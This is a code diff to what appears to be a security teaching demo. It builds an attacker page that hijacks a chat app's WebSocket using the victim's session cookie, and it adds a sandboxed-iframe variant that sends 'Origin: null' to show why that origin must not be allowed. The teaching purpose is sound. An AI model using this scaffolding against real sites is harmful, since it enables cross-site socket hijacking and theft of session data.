@@ -1,6 +1,32 @@
 import { attackScript } from './attack-script.js';
 
-export function attackerPage(targetSocketUrl: string): string {
+/**
+ * Where the attack runs:
+ * - `page`: in the attacker's page itself; the handshake carries the page's origin;
+ * - `sandboxed-iframe`: in an `<iframe sandbox="allow-scripts">` of that page. The frame's
+ *   origin is opaque, so its handshake carries `Origin: null`, which any site can produce:
+ *   the reason `'null'` must not be an allowed origin.
+ */
+export type AttackLaunch = 'page' | 'sandboxed-iframe';
+
+/** The attacker page's path on the attacker's server, per launch. */
+export const ATTACKER_PAGE_PATHS: Readonly<Record<AttackLaunch, string>> = {
+  page: '/',
+  'sandboxed-iframe': '/sandboxed',
+};
+
+export function attackerPage(targetSocketUrl: string, launch: AttackLaunch = 'page'): string {
+  const sandboxed = launch === 'sandboxed-iframe';
+  const frameDocument = `<!doctype html><meta charset="utf-8"><script>
+${attackScript(targetSocketUrl)}
+attack((outcome) => parent.postMessage(outcome, '*'));
+</script>`;
+  const where = sandboxed
+    ? `The attack runs in a sandboxed iframe of this page: its origin is opaque, so the
+handshake says <code>Origin: null</code>. <a href="${ATTACKER_PAGE_PATHS.page}">Run it in the page itself</a>.`
+    : `Your browser attaches your chat session cookie by itself, because this page is on the same
+site (another port of the same host). <a href="${ATTACKER_PAGE_PATHS['sandboxed-iframe']}">Run it
+from a sandboxed iframe (<code>Origin: null</code>)</a>.`;
   return `<!doctype html>
 <html lang="en">
 <head><meta charset="utf-8"><title>Totally harmless page</title>
@@ -9,8 +35,7 @@ export function attackerPage(targetSocketUrl: string): string {
 <body>
 <h1>A page on another origin</h1>
 <p>This page's origin is <code id="origin"></code>. It tries to open <code>${targetSocketUrl}</code>,
-the chat's socket. Your browser attaches your chat session cookie by itself, because this page
-is on the same site (another port of the same host).</p>
+the chat's socket. ${where}</p>
 <div id="result">Attacking…</div>
 <p><button id="again">Try again</button></p>
 <script>
@@ -27,15 +52,37 @@ function show(outcome) {
     result.textContent = 'HIJACKED: the socket opened with your session and answered: ' + JSON.stringify(outcome.stolen);
   } else if (outcome.refused) {
     result.className = 'refused';
-    result.textContent = 'Refused: the handshake was rejected before the socket opened (close code ' + outcome.closeCode + '). The server log says why.';
+    result.textContent = 'Refused: the handshake was rejected before the socket opened (error event, close code ' + outcome.closeCode + '). The server log says why.';
   } else {
     result.textContent = 'The socket opened but closed before answering (' + outcome.closeCode + ' ' + outcome.reason + '). Log in on the chat page first.';
   }
 }
-function run() { reported = false; result.className = ''; result.textContent = 'Attacking…'; attack(show); }
+${sandboxed ? sandboxedLauncher(frameDocument) : 'function launch() { attack(show); }'}
+function run() { reported = false; result.className = ''; result.textContent = 'Attacking…'; launch(); }
 document.getElementById('again').onclick = run;
 run();
 </script>
 </body>
 </html>`;
+}
+
+/** Runs the attack in a fresh sandboxed frame, which reports back with `postMessage`. */
+function sandboxedLauncher(frameDocument: string): string {
+  return `let frame;
+window.addEventListener('message', (event) => {
+  if (frame && event.source === frame.contentWindow) show(event.data);
+});
+function launch() {
+  frame?.remove();
+  frame = document.createElement('iframe');
+  frame.setAttribute('sandbox', 'allow-scripts');
+  frame.hidden = true;
+  frame.srcdoc = ${scriptLiteral(frameDocument)};
+  document.body.append(frame);
+}`;
+}
+
+/** A JavaScript string literal that is safe inside `<script>`: no `</script>` can end it. */
+function scriptLiteral(text: string): string {
+  return JSON.stringify(text).replaceAll('<', '\\u003c');
 }
